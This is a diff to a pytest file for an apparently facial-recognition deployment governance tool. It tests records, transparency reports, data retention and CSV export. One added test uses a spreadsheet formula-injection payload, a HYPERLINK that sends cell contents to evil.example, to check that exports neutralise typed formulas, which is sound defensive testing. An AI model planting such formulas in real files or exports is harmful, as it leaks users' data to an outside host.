@@ -13,23 +13,24 @@ from datetime import timedelta
 from pathlib import Path
 
 import pytest
-from sqlalchemy import update
+from sqlalchemy import func, select, update
 
 from openlfr.alerts.db_store import DbAlertStore
 from openlfr.cli import main
 from openlfr.config.governance import GovernanceConfig
 from openlfr.config.models import Settings
+from openlfr.deployments.figures import add_counts, tally
+from openlfr.deployments.notice import record_placement
 from openlfr.deployments.service import (
     authorise_deployment,
     create_deployment,
     end_deployment,
-    record_counts,
     start_deployment,
 )
 from openlfr.deployments.types import RunCounts
 from openlfr.pipeline.thresholds import SFACE_INT8BQ_TAIL
-from openlfr.reports.deployment import build_record, tally
-from openlfr.reports.transparency import build_transparency, charts
+from openlfr.reports.deployment import build_record, to_csv
+from openlfr.reports.transparency import build_transparency, charts, render_transparency
 from openlfr.store.alert_models import AlertRecord
 from openlfr.store.context import Store, open_store
 from tests.deployments.helpers import T0, alert_event, make_snapshot, plan, planner, sgt
@@ -55,18 +56,32 @@ def test_tally_maps_review_and_outcome_to_the_published_categories() -> None:
     assert (t.unreviewed, t.engagements, t.arrests) == (1, 3, 1)
 
 
-def _deployment(store: Store, name: str, day: int, reviews: list[tuple[str, str | None]], faces: int | None) -> str:
+def _deployment(
+    store: Store,
+    name: str,
+    day: int,
+    reviews: list[tuple[str, str | None]],
+    faces: int | None,
+    location: str = "High Street, outside the station",
+) -> str:
     start = T0 + timedelta(days=day)
     with store.db.session() as session:
         snapshot = make_snapshot(session, templates=4)
         d = create_deployment(
             session,
-            plan(snapshot.id, name=name, planned_start=start, planned_end=start + timedelta(hours=3)),
+            plan(
+                snapshot.id,
+                name=name,
+                location=location,
+                planned_start=start,
+                planned_end=start + timedelta(hours=3),
+            ),
             by=planner(session),
             config=GovernanceConfig(),
             now=start - timedelta(days=1),
         )
         authorise_deployment(session, d.id, by=sgt(session), text="ok", config=GovernanceConfig(), now=start)
+        record_placement(session, d.id, location="both entrances", by=planner(session), now=start)
         start_deployment(session, d.id, by=planner(session), now=start)
         deployment_id = d.id
     alerts = DbAlertStore(store.db, store.media, deployment_id=deployment_id)
@@ -79,7 +94,7 @@ def _deployment(store: Store, name: str, day: int, reviews: list[tuple[str, str 
             )
     with store.db.session() as session:
         if faces is not None:
-            record_counts(session, deployment_id, RunCounts(frames=faces * 10, faces=faces, tracks=faces // 4), start)
+            add_counts(session, deployment_id, RunCounts(frames=faces * 40, detections=faces * 4, tracks=faces), start)
         end_deployment(session, deployment_id, by=planner(session), reason="done", now=start + timedelta(hours=3))
     return deployment_id
 
@@ -90,6 +105,7 @@ def store(database_url: str, tmp_path: Path) -> Iterator[Store]:
         yield opened
 
 
+@pytest.mark.slow
 def test_deployment_record_and_transparency_report(store: Store) -> None:
     first = _deployment(store, "Station", 0, REVIEWS, faces=20_000)
     _deployment(store, "Market", 7, [("confirmed", "arrested"), ("rejected", None)], faces=None)
@@ -112,6 +128,7 @@ def test_deployment_record_and_transparency_report(store: Store) -> None:
     assert charts(empty)  # an empty period still renders
 
 
+@pytest.mark.slow
 def test_report_cli_formats_and_dpia_facts(
     store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -143,6 +160,44 @@ def test_report_cli_formats_and_dpia_facts(
     assert facts["equity"]["groups"]["sex"]["F"]["fnir"] == 0.1
     assert facts["watchlist"]["templates_destroyed"] == 4
     assert any("verified intact" in s for s in facts["safeguards"])
+    assert any(s.startswith("signs recorded as put up") and "both entrances" in s for s in facts["safeguards"])
+    assert any("missing settings: governance.notice.public_base_url" in s for s in facts["safeguards"])
     assert any("NOT encrypted" in s for s in facts["data_flows"])
     assert main(["report", "dpia-facts", deployment_id, *db]) == 0
     assert capsys.readouterr().out.startswith("# DPIA facts: Station (")
+
+
+def test_a_final_record_keeps_its_figures_after_the_purge_and_an_erasure(store: Store) -> None:
+    """Purging the alerts' personal data (31 days) or erasing alerts on request never changes the published
+    record: before the rows go, their categories are added to the deployment's retired tally."""
+    from openlfr.retention.access import erase_alerts
+    from openlfr.retention.purge import purge_alerts
+
+    deployment_id = _deployment(store, "Station", 0, REVIEWS, faces=5000)
+    with store.db.session() as session:
+        before = build_record(session, deployment_id)
+        first_alert = session.scalars(select(AlertRecord.id).where(AlertRecord.deployment_id == deployment_id)).first()
+        supervisor = sgt(session)
+    assert first_alert is not None
+    erased, _ = erase_alerts(store, [first_alert], by=supervisor, reason="subject access request")
+    assert erased == 1
+    result = purge_alerts(store, now=T0 + timedelta(days=60), retention_days=31, by=supervisor)
+    assert result.alerts == len(REVIEWS) - 1
+    with store.db.session() as session:
+        assert session.scalar(select(func.count()).select_from(AlertRecord)) == 0
+        after = build_record(session, deployment_id)
+    assert after == before
+    assert (after.alerts, after.arrests, after.true_confirmed, after.final) == (7, 1, 2, True)
+    assert after.false_alert_rate == pytest.approx(2 / 5000)
+
+
+def test_deployment_and_transparency_csv_neutralise_typed_formulas(store: Store) -> None:
+    link = '=HYPERLINK("http://evil.example/?leak="&B2,"details")'
+    deployment_id = _deployment(store, "@SUM(1+1)", 0, REVIEWS[:1], faces=10, location=link)
+    with store.db.session() as session:
+        record = build_record(session, deployment_id)
+        report = build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=30))
+    for text in (to_csv([record]), render_transparency(report, "csv")):
+        (row,) = csv.DictReader(io.StringIO(text))
+        assert (row["name"], row["location"]) == ("'@SUM(1+1)", "'" + link)
+        assert row["alerts"] == "1"  # numbers are written as numbers
